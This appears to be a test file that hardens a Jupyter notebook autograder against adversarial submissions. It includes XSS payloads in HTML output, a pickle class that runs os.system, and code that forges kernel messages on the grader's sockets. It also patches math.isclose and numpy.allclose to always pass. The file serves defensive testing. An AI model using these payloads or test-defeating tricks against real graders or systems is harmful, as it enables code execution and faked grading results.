       "        content = {**content, 'transient': {'display_id': 'x'}}\n        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())\n"
       "    return [0]", cell="growth")  # fmt: skip
runs("threads-that-print-on", "import threading, time\n\ndef print_on():\n    while True:\n        print('later', flush=True)\n        time.sleep(0.05)\n\n"
     "for _ in range(5):\n    threading.Thread(target=print_on, daemon=True).start()", cell="plot")  # fmt: skip
runs("tracing-and-finalizers", "import atexit, sys, time\n\nclass Late:\n    def __del__(self):\n        time.sleep(30)\n\nlate = Late()\n"
     "atexit.register(time.sleep, 30)\n\ndef trace(*_):\n    return trace\n\nsys.settrace(trace)\nsys.setprofile(trace)")  # fmt: skip
runs("tasks-without-end", "import asyncio\n\nasync def spin():\n    while True:\n        await asyncio.sleep(0)\n\n"
     "tasks = [asyncio.ensure_future(spin()) for _ in range(50)]", cell="plot")  # fmt: skip
runs("pictures-of-any-size", "for kind in ('image/png', 'image/svg+xml', 'application/javascript', 'text/vnd.mermaid', 'application/pdf'):\n"
     "    display({kind: 'x\" onerror=\"x', 'text/plain': 'x'}, metadata={kind: {'width': '1 onerror=x', 'height': [1]}}, raw=True)")  # fmt: skip


@kind("odd-sources")
def _():
    notebooks = course.with_answers()
    odd = ["\f\nx = 1", "\ufeffx = 1", "x = 1\r\ny = 2\rz = 3", "a\x00b", "\u200bx = 1", "\n\n%%time\nx = 1", "x = '''\n!ls\n%time\n?\n'''", "print?",
           "x = 1 \\\n + 2", "x = '" + "a" * 1_000_000 + "'", "x = '\\udc80'", "(" * 150 + ")" * 150, "%run nothing.py", "%load_ext nothing",
           "# coding: rot13\nk = 1", "%%capture told\nprint(1)", "x = [1,\n!1]", "1if True else 2"]  # fmt: skip
    for name in notebooks:
        notebooks[name].cells += [nbformat.v4.new_code_cell(source, id=f"odd-{i}") for i, source in enumerate(odd)]
    return notebooks


_edited("metadata-points-no-number", _update(points=float("nan")))
_edited("metadata-points-as-text", _update(points="4"))
_edited("tests-may-raise", _on_tests(lambda cell: cell.metadata.update(tags=["raises-exception"])), told="graded")
_edited("cell-ids-alike", lambda cell: cell.update(id="same"), base=course.with_answers, honest=FULL, told="graded")
_edited("cell-ids-of-any-text", lambda cell: cell.update(id="\x1b[2J" + "x" * 100_000), base=course.with_answers, honest=FULL,
        told="could not|graded")  # fmt: skip


@kind("locked-cells-of-its-own", honest=0.0)
def _():
    notebooks = BLANK()
    code = "import math\nimport numpy as np\nmath.isclose = np.allclose = lambda *args, **kwargs: True\nmean_spending = 1.0\ngrowth = lambda values: 0"
    own = {"grade": False, "grade_id": "given-mine", "locked": True, "schema_version": 3, "solution": False}
    notebooks["analysis"].cells[1:1] = [
        nbformat.v4.new_code_cell(code, id="mine", metadata={"nbgrader": own}),
        nbformat.v4.new_code_cell(code, id="given-helper"),
        nbformat.v4.new_code_cell("4", id="test-growth"),
    ]
    return notebooks


@kind("metadata-of-any-kind")
def _():
    notebooks = course.with_answers()
    trap = '"></script><script>x</script>'
    for nb in notebooks.values():
        nb.metadata |= {"kernelspec": {"name": "../x", "language": "bash", "display_name": trap}, "title": trap, "widgets": trap, "postwar": trap,
                        "language_info": {"name": trap, "pygments_lexer": trap, "file_extension": "/../x"}}  # fmt: skip
        for cell in nb.cells:
            cell.metadata |= {"magics_language": trap, "tags": [trap], "slideshow": {"slide_type": trap}}
    return notebooks


def _write_cells_twice(folder):
    path = folder / "analysis.ipynb"
    path.write_text(path.read_text().rstrip()[:-1] + ', "x": NaN, "cells": []}')


@kind("cells-given-twice", told="lacks|graded", after=_write_cells_twice)
def _():
    return course.with_answers()


# -- the connection to the grader ----------------------------------------------------------------------------------------

_SOCKETS = ("import os, stat\ndef sockets():\n    for fd in range(3, 200):\n        try:\n            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "                yield fd\n        except OSError:\n            pass\n")  # fmt: skip
runs(
    "garbage-to-the-grader",
    _SOCKETS + "for fd in sockets():\n    os.write(fd, b'\\xff' * 100)",
    told="message|long|died",
)
runs(
    "huge-message-to-the-grader",
    _SOCKETS + "for fd in sockets():\n    os.write(fd, b'\\xff\\xff\\xff\\xff')",
    told="long|message|died",
)
cheats("forged-message-to-the-grader",
       _SOCKETS + "import json\nfor fd in sockets():\n    for number in range(1, 40):\n        for content in (\n"
       "            {'msg_type': 'execute_result', 'content': {'data': {'text/plain': '4'}, 'metadata': {}, 'execution_count': 1}},\n"
       "            {'msg_type': 'status', 'content': {'execution_state': 'idle'}}):\n"
       "            body = json.dumps({'channel': 'iopub', 'message': {**content, 'parent': f'cell-{number}', 'buffers': []}}).encode()\n"
       "            os.write(fd, len(body).to_bytes(4, 'big') + body)", told="graded|message|died|long|endless")  # fmt: skip
runs("value-too-deep", "labels = []\nfor _ in range(20_000):\n    labels = [labels]", cell="total", honest=12.0)
runs("value-too-large", "labels = 'x' * 100_000_000", cell="total", honest=12.0, told="graded|message|long|died|memory")
runs("value-with-code", "import os\nclass Bomb:\n    def __reduce__(self):\n        return os.system, ('touch exploded',)\n"
     "labels = {'a': Bomb()}", cell="total", honest=12.0)  # fmt: skip
runs("value-that-lies", "class Frame(type(spending)):\n    @property\n    def columns(self):\n        raise MemoryError\n"
     "spending = Frame(spending)", cell="rank", honest=11.0)  # fmt: skip
runs("display-too-deep", "value = []\nfor _ in range(600):\n    value = [value]\ndisplay({'application/json': value}, raw=True)",
     told="graded|recorded|message|died")  # fmt: skip
runs(
    "display-wrong-types",
    "display({'text/html': {'a': [1]}, 'text/plain': 7}, raw=True)",
    told="graded|recorded|message",
)
runs("bad-timestamp", "", files={"timestamp.txt": b"yesterday"}, told="holds no date")
SCRIPTS = {
    "script": "<script>@RUN@</script>",
    "handler": '<img src="data:," onerror="@RUN@">',
    "picture": '<svg xmlns="http://www.w3.org/2000/svg" onload="@RUN@"></svg>',
    "frame": '<iframe srcdoc="<script>parent.ran.push(&quot;frame&quot;)</script>"></iframe>',
}  # each leaves its name in the page's list ``ran`` when it runs
_HTML = "".join(text.replace("@RUN@", f"(window.ran ??= []).push('{name}')") for name, text in SCRIPTS.items())
runs("script-in-output", f"from IPython.display import HTML, display\ndisplay(HTML({_HTML!r}))")
runs("surrogates-in-output", "print('\\udc80')\ndisplay({'text/plain': '\\ud800'}, raw=True)")
